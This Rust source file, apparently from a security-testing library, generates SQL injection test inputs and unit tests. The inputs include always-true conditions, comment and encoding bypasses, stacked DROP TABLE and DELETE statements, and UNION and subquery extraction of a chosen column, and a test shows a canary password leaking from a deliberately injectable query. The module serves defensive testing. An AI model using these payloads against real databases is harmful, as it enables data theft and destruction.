//! Text that leaves a string or a number of SQL.

use super::{Input, Inputs};

/// Text that leaves a string or a number of SQL, and reads the names of tables: [`sql_injection_reading`] of SQLite's
/// own `sqlite_master`.
#[must_use]
pub fn sql_injection() -> Inputs {
    sql_injection_reading("sqlite_master", "name")
}

/// Text that leaves a string or a number of SQL, and reads this column of this table (CWE-89).
///
/// Conditions that always hold, behind each kind of quote and behind a number; `UNION SELECT` of one to eight columns;
/// a second statement; comments of each dialect; a quote that a backslash, an encoding or a replaced character brings
/// back; patterns of `LIKE`; a name of a column with an expression in its place. Put a canary into the column, and ask
/// `assert_no_leak!` about the answer. A question about rows of others, or about a login, needs no canary.
#[must_use]
pub fn sql_injection_reading(table: &str, column: &str) -> Inputs {
    let mut inputs = Inputs::texts([
        ("quote", "'".to_owned()),
        ("always true", "' OR '1'='1".to_owned()),
        ("always true, rest commented out", "' OR 1=1 -- ".to_owned()),
        ("always true, comment of MySQL", "' OR 1=1 #".to_owned()),
        ("always true, open comment", "' OR 1=1 /*".to_owned()),
        ("always true in parentheses", "') OR ('1'='1".to_owned()),
        ("always true, double quotes", "\" OR \"1\"=\"1".to_owned()),
        ("always true, number", "0 OR 1=1".to_owned()),
        ("always true, number without spaces", "0/**/OR/**/1=1".to_owned()),
        ("always true, number without letters", "0||1".to_owned()),
        // For a filter that knows one spelling of a word.
        ("always true, mixed case and tabs", "'\toR\t'1'\tlIkE\t'1".to_owned()),
        ("always true, word left by a filter", "' OORR '1'='1".to_owned()),
        ("rest commented out", "admin' -- ".to_owned()),
        ("rest cut off by a NUL", "admin'\0".to_owned()),
        // A quote that is doubled, and one that a backslash has escaped already.
        ("backslash before a quote", "\\' OR 1=1 -- ".to_owned()),
        ("backslash last", "\\".to_owned()),
        // Turned into a quote by a conversion to a smaller character set, or by NFKC.
        ("typographic quote", "\u{2019} OR \u{2019}1\u{2019}=\u{2019}1".to_owned()),
        ("full-width quote", "\u{ff07} OR \u{ff07}1\u{ff07}=\u{ff07}1".to_owned()),
        ("quote percent-encoded", "%27%20OR%20%271%27=%271".to_owned()),
        ("quote percent-encoded twice", "%2527%20OR%20%25271%2527=%25271".to_owned()),
        ("second statement", format!("'; DROP TABLE {table}; -- ")),
        ("second statement behind a number", format!("0; DELETE FROM {table}")),
        ("subquery in the place of a number", format!("(SELECT {column} FROM {table} LIMIT 1)")),
        ("concatenated subquery", format!("'||(SELECT {column} FROM {table} LIMIT 1)||'")),
        ("error with the value", format!("' AND 1=CAST((SELECT {column} FROM {table} LIMIT 1) AS INTEGER) -- ")),
        ("one bit by the condition", format!("' OR (SELECT length({column}) FROM {table} LIMIT 1)>0 -- ")),
        ("expression to sort by", format!("(CASE WHEN (SELECT count({column}) FROM {table})>0 THEN 1 ELSE 2 END)")),
        ("further sort order", "1 DESC, 2".to_owned()),
        ("limit with a union", format!("1 UNION SELECT {column} FROM {table}")),
        ("everything that LIKE knows", "%".to_owned()),
        ("any characters of LIKE", "____".to_owned()),
    ]);
    for (name, start) in [("string", "' "), ("parentheses", "') "), ("number", "0 ")] {
        inputs.extend((1..=8).map(|columns| {
            let list = vec![column; columns].join(",");
            Input::new(
                format!("union of {columns}, {name}"),
                format!("{start}UNION ALL SELECT {list} FROM {table} -- "),
            )
        }));
    }
    inputs.distinct()
}

#[cfg(test)]
mod tests {
    use super::{super::tests::percent_decoded, *};

    #[test]
    fn unions_have_their_number_of_columns_and_encodings_decode() {
        let inputs = sql_injection_reading("accounts", "password");
        let of = |label: &str| inputs.iter().find(|input| input.label() == label).unwrap().to_string();
        for columns in 1..=8 {
            assert_eq!(of(&format!("union of {columns}, string")).matches("password").count(), columns);
        }
        assert_eq!(percent_decoded(&of("quote percent-encoded")), of("always true").as_bytes());
        let once = String::from_utf8(percent_decoded(&of("quote percent-encoded twice"))).unwrap();
        assert_eq!(percent_decoded(&once), of("always true").as_bytes());
    }

    #[cfg(feature = "sqlite")]
    #[test]
    fn a_query_that_is_put_together_gives_what_it_should_not() {
        let base = rusqlite::Connection::open_in_memory().unwrap();
        base.execute_batch(
            "CREATE TABLE account (id INTEGER, password TEXT); INSERT INTO account VALUES (1, 'canary');
             CREATE TABLE product (id INTEGER, name TEXT); INSERT INTO product VALUES (1, 'tea');",
        )
        .unwrap();
        let found = |text: &str| -> rusqlite::Result<Vec<String>> {
            let sql = format!("SELECT id, name FROM product WHERE name = '{text}'");
            let mut query = base.prepare(&sql)?;
            query.query_map([], |row| row.get(1))?.collect()
        };
        let reached = |wanted: &str| -> Vec<String> {
            let gives = |input: &&Input| found(input).is_ok_and(|rows| rows.iter().any(|row| row == wanted));
            let inputs = sql_injection_reading("account", "password");
            inputs.iter().filter(gives).map(|input| input.label().to_owned()).collect()
        };
        assert_eq!(reached("canary"), ["union of 2, string"]);
        assert!(reached("tea").contains(&"always true".to_owned()));
    }
}
